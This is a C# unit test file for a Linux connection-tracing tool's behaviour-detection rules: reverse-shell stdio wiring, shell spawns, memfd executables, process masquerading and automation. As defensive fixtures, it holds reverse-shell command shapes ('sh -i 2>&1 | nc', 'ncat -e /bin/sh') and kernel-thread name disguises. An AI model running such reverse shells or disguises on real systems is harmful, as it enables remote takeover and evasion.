using N3ttrace.Connections;
using N3ttrace.Inference;
using N3ttrace.Inference.Rules;
using N3ttrace.Core.Tests.Lineage;
using N3ttrace.Lineage;

namespace N3ttrace.Core.Tests.Inference;

/// <summary>[judgement] The behaviour rules: stdio wiring, shell spawns, memfd, masquerade precision, automation, ATT&amp;CK ids.</summary>
public class BehaviourRuleTests
{
    private static readonly ProcessNode Launcher = Make.Node(Make.Ctx("/usr/bin/dotnet", ["dotnet"]));
    private static ulong s_ino = 5000;

    private static StdioFd Pipe() => new(StdioKind.Pipe, Interlocked.Increment(ref s_ino), 14);
    private static StdioFd Sock() => new(StdioKind.Socket, Interlocked.Increment(ref s_ino), 9);
    private static readonly StdioFd Tty = new(StdioKind.Tty, 3, StdioFd.KernelDev(136, 3));
    private static readonly StdioFd Null = new(StdioKind.Null, 4, StdioFd.KernelDev(1, 3));

    private static ProcessContext Ctx(string exe, string[] argv, StdioFd i, StdioFd o, StdioFd e, string tty = "") =>
        Make.Ctx(exe, argv, tty) with { Stdio = new StdioFacts(i, o, e) };

    private static Subject Subject(Connection c, StdioPeers peers, RulesConfig? config = null) =>
        new(c, new RuleLists(config ?? RulesConfig.Default), c.BirthBootNs + 1) { Peers = peers };

    [Theory]
    [InlineData(new[] { "sh", "-i" }, true)]
    [InlineData(new[] { "sh" }, true)]
    [InlineData(new[] { "bash", "-li" }, true)]
    [InlineData(new[] { "python3" }, true)]
    [InlineData(new[] { "sh", "-c", "curl x" }, false)]
    [InlineData(new[] { "sh", "/opt/deploy.sh" }, false)]
    [InlineData(new[] { "python3", "app.py" }, false)]
    [InlineData(new[] { "perl", "-e", "print 1" }, false)]
    public void An_interpreter_reads_commands_from_stdin_without_a_program_argument(string[] argv, bool reads) =>
        Assert.Equal(reads, CommandInterpreter.ReadsCommandsFromStdin(Make.Ctx("/usr/bin/" + argv[0], argv)));

    [Fact]
    public void A_shell_whose_stdout_pipe_feeds_the_connection_holder_is_wired()
    {
        // cat f | sh -i 2>&1 | nc host port > f
        var (a, b) = (Pipe(), Pipe());
        var fifo = new StdioFd(StdioKind.Fifo, 77, 8);
        var peers = new StdioPeers();
        var cat = Make.Node(Ctx("/usr/bin/cat", ["cat", "f"], Null, a, Tty), Launcher);
        var sh = Make.Node(Ctx("/usr/bin/dash", ["sh", "-i"], a, b, b), Launcher);
        var nc = Make.Node(Ctx("/usr/bin/ncat", ["nc", "127.0.0.1", "4444"], b, fifo, Tty), Launcher);
        foreach (var n in new[] { cat, sh, nc })
        {
            peers.Add(n, n.Context.Stdio);
        }
        var hit = new StdioWiringRule().Evaluate(Subject(Make.Conn(nc), peers));
        Assert.NotNull(hit);
        Assert.Equal("T1059.004", hit.Technique);
        Assert.Contains("stdout of dash", hit.Text, StringComparison.Ordinal);

        // The same pipe to a shell running a script (sh -c) or to a non-interpreter is not a shell reading the network.
        var peers2 = new StdioPeers();
        var script = Make.Node(Ctx("/usr/bin/dash", ["sh", "-c", "make"], Null, b, b), Launcher);
        peers2.Add(script, script.Context.Stdio);
        peers2.Add(nc, nc.Context.Stdio);
        peers2.Add(cat, cat.Context.Stdio);
        Assert.Null(new StdioWiringRule().Evaluate(Subject(Make.Conn(nc), peers2)));
    }

    [Fact]
    public void A_pipe_peer_that_exited_or_no_longer_holds_the_pipe_does_not_count()
    {
        var b = Pipe();
        var peers = new StdioPeers();
        var sh = Make.Node(Ctx("/usr/bin/bash", ["bash"], b, Tty, Tty), Launcher, exited: 5);
        var nc = Make.Node(Ctx("/usr/bin/ncat", ["nc", "h", "1"], Tty, b, Tty), Launcher);
        peers.Add(sh, sh.Context.Stdio);
        peers.Add(nc, nc.Context.Stdio);
        Assert.Null(new StdioWiringRule().Evaluate(Subject(Make.Conn(nc), peers)));
    }

    [Fact]
    public void A_shell_the_holder_spawns_on_a_socket_or_a_pty_it_made_is_wired_but_not_one_on_its_own_terminal()
    {
        var table = new ProcessTable(new ProcessIdentity("boot"), new NoProcesses());
        var py = table.OnExec(new ProcessKey(900001, 1), new ProcessKey(1, 1), Ctx("/usr/bin/python3.11", ["python3", "-c", "x"], Tty, Tty, Tty), 1_000_000_000);
        var c = Make.Conn(py, birthNs: 1_000_000_000);
        Assert.Null(new StdioWiringRule().Evaluate(Subject(c, table.Peers)));
        // pty.spawn: the child's terminal is a new pts the holder made.
        var pts = new StdioFd(StdioKind.Tty, 9, StdioFd.KernelDev(136, 9));
        table.OnFork(py.Key, new ProcessKey(900002, 2), "python3");
        table.OnExec(new ProcessKey(900002, 2), py.Key, Ctx("/usr/bin/dash", ["/bin/sh"], pts, pts, pts, "pts/9"), 1_500_000_000);
        var hit = new StdioWiringRule().Evaluate(Subject(c, table.Peers));
        Assert.NotNull(hit);
        Assert.Contains("tty it created", hit.Text, StringComparison.Ordinal);

        // A user's REPL running bash on its own terminal: no.
        var user = table.OnExec(new ProcessKey(900003, 3), new ProcessKey(1, 1), Ctx("/usr/bin/python3.11", ["python3"], Tty, Tty, Tty, "pts/3"), 1_000_000_000);
        table.OnExec(new ProcessKey(900004, 4), user.Key, Ctx("/usr/bin/bash", ["bash"], Tty, Tty, Tty, "pts/3"), 1_200_000_000);
        Assert.Null(new StdioWiringRule().Evaluate(Subject(Make.Conn(user, birthNs: 1_000_000_000), table.Peers)));

        // nc -e: a child shell on the socket.
        var nc = table.OnExec(new ProcessKey(900005, 5), new ProcessKey(1, 1), Ctx("/usr/bin/ncat", ["ncat", "h", "1", "-e", "/bin/sh"], Null, Null, Null), 1_000_000_000);
        var s = Sock();
        table.OnExec(new ProcessKey(900006, 6), nc.Key, Ctx("/usr/bin/dash", ["/bin/sh"], s, s, s), 1_100_000_000);
        Assert.NotNull(new StdioWiringRule().Evaluate(Subject(Make.Conn(nc, birthNs: 1_000_000_000), table.Peers)));
    }

    [Fact]
    public void A_holder_spawning_shells_scores_once_and_more_for_a_command_loop()
    {
        var table = new ProcessTable(new ProcessIdentity("boot"), new NoProcesses());
        var ruby = table.OnExec(new ProcessKey(910001, 1), new ProcessKey(1, 1), Ctx("/usr/bin/ruby3.1", ["ruby", "-rsocket", "-e", "x"], Null, Null, Null), 1_000_000_000);
        var c = Make.Conn(ruby, birthNs: 1_000_000_000);
        Assert.Null(new ShellSpawnRule().Evaluate(Subject(c, table.Peers)));
        table.OnExec(new ProcessKey(910002, 2), ruby.Key, Ctx("/usr/bin/dash", ["sh", "-c", "id"], Null, Pipe(), Null), 2_000_000_000);
        var one = new ShellSpawnRule().Evaluate(Subject(c, table.Peers));
        Assert.Equal(RulesConfig.Default.ShellSpawnPoints, one?.Points);
        table.OnExec(new ProcessKey(910003, 3), ruby.Key, Ctx("/usr/bin/dash", ["sh", "-c", "uname"], Null, Pipe(), Null), 3_000_000_000);
        Assert.Equal(RulesConfig.Default.ShellLoopPoints, new ShellSpawnRule().Evaluate(Subject(c, table.Peers))?.Points);
        // A shell spawned long before the connection is not the network's doing.
        var old = table.OnExec(new ProcessKey(910004, 4), new ProcessKey(1, 1), Ctx("/usr/bin/python3", ["python3", "x.py"], Null, Null, Null), 0);
        table.OnExec(new ProcessKey(910005, 5), old.Key, Ctx("/usr/bin/dash", ["sh", "-c", "id"], Null, Null, Null), 1_000_000);
        Assert.Null(new ShellSpawnRule().Evaluate(Subject(Make.Conn(old, birthNs: 60_000_000_000), table.Peers)));
    }

    [Fact]
    public void Memfd_executables_are_named()
    {
        var hit = new MemfdExecutableRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/memfd:x (deleted)", ["x"]), Launcher))));
        Assert.Equal("T1620", hit?.Technique);
        Assert.Null(new MemfdExecutableRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/memfdtool", ["memfdtool"]), Launcher)))));
    }

    [Theory]
    [InlineData("/usr/bin/node", "npm view left-pad", "npm", false)]           // npm sets its own title
    [InlineData("/usr/sbin/nginx", "nginx: worker process", "nginx", false)]
    [InlineData("/usr/lib/openssh/sshd-session", "sshd: root@notty", "sshd", false)]
    [InlineData("/usr/bin/python3.11", "[kworker/0:1]", "kworker/0:1", true)] // a kernel thread's name
    [InlineData("/tmp/x/a.out", "sshd: root@pts/0", "sshd", true)]            // another program's name
    public void A_process_title_is_not_a_disguise_unless_it_names_a_kernel_thread_or_another_program(string exe, string argv0, string comm, bool fires)
    {
        var ctx = Make.Ctx(exe, [argv0]) with { Comm = comm };
        Assert.Equal(fires, new MasqueradeRule().Evaluate(Make.Subject(Make.Conn(Make.Node(ctx, Launcher)))) is not null);
    }

    [Fact]
    public void An_orphan_script_shell_fed_from_dev_null_or_under_a_scheduler_is_automation()
    {
        var gone = Make.Node(Make.Ctx("/usr/bin/bash", ["bash"]), exited: 0);
        var fromNull = Make.Node(Ctx("/usr/bin/dash", ["sh", "-c", "curl x"], Null, Null, Null), gone);
        var curl = Make.Node(Ctx("/usr/bin/curl", ["curl", "x"], Null, Null, Null), fromNull);
        Assert.Null(new OrphanShellRule().Evaluate(Make.Subject(Make.Conn(curl))));
        Assert.Null(new LolbinContextRule().Evaluate(Make.Subject(Make.Conn(curl))));

        var cron = Make.Node(Make.Ctx("/usr/sbin/cron", ["/usr/sbin/cron", "-f"]));
        var job = Make.Node(Ctx("/usr/bin/dash", ["sh", "-c", "curl x"], Pipe(), Pipe(), Pipe()), cron);
        Assert.Null(new LolbinContextRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), job)))));

        // Without such evidence the orphan shell is still context, but small: never a verdict alone.
        var bare = Make.Node(Ctx("/usr/bin/dash", ["sh"], Pipe(), Pipe(), Pipe()), gone);
        var hit = new OrphanShellRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), bare))));
        Assert.NotNull(hit);
        Assert.True(hit.Points < RulesConfig.Default.AnomalyScore);
    }

    [Fact]
    public void Own_connections_are_never_scored()
    {
        using var engine = new VerdictEngine(RulesConfig.Default, new MemoryBaseline()) { OwnTgid = 4242 };
        var self = Make.Node(Make.Ctx("/tmp/n3ttrace", ["[kworker/0:0]"]) with { Comm = "kworker/0:0" });
        var c = Make.Conn(self) ;
        var own = new Connection
        {
            ConnId = c.ConnId, SocketKey = 2, Source = "test", BirthBootNs = 1, BirthUtc = DateTime.UtcNow,
            LocalAddress = c.LocalAddress, LocalPort = 1, RemoteAddress = c.RemoteAddress, RemotePort = 514, RemoteMasked = c.RemoteMasked,
            RemoteScope = c.RemoteScope, RemoteHash = "h", Pid = 4242, Comm = "kworker/0:0", Process = self, Context = self.Context,
            ProcessId = "p", AncestryId = "a", Ancestry = "", Facts = c.Facts,
        };
        var v = engine.Judge(own, 1);
        Assert.Equal(RiskLevel.Normal, v.Level);
        Assert.Equal(0, v.Score);
        Assert.Equal(PurposeGuess.Telemetry, v.Purpose);
    }

    [Fact]
    public void Every_rule_carries_an_attack_technique_and_reasons_round_trip_it()
    {
        Assert.All(RuleCatalog.All, r => Assert.True(RecordedReason.IsTechnique(r.Technique), $"{r.Name}: '{r.Technique}'"));
        var reasons = "stdio-wiring +80: stdout of dash is pipe:[1] [T1059.004]; first-seen +5: x [T1071]; purpose +0: unknown (0.00): none";
        var parsed = RecordedReason.ParseAll(reasons);
        Assert.Equal("T1059.004", parsed[0].Technique);
        Assert.Equal("stdout of dash is pipe:[1]", parsed[0].Text);
        Assert.Equal(["T1059.004", "T1071"], RecordedReason.Techniques(reasons));
        Assert.Equal("", parsed[2].Technique);
    }

    [Fact]
    public void The_stdio_index_is_bounded_and_forgets_replaced_contexts()
    {
        var peers = new StdioPeers();
        var shared = Pipe();
        var holders = Enumerable.Range(0, StdioPeers.MaxHolders + 3).Select(_ => Make.Node(Ctx("/usr/bin/x", ["x"], shared, Null, Null))).ToList();
        holders.ForEach(h => peers.Add(h, h.Context.Stdio));
        Assert.Equal(3, peers.Overflows);
        Assert.Equal(StdioPeers.MaxHolders - 1, peers.Others(shared, holders[0]).Count());
        holders.ForEach(h => peers.Remove(h, h.Context.Stdio));
        Assert.Equal(0, peers.Objects);
    }
}
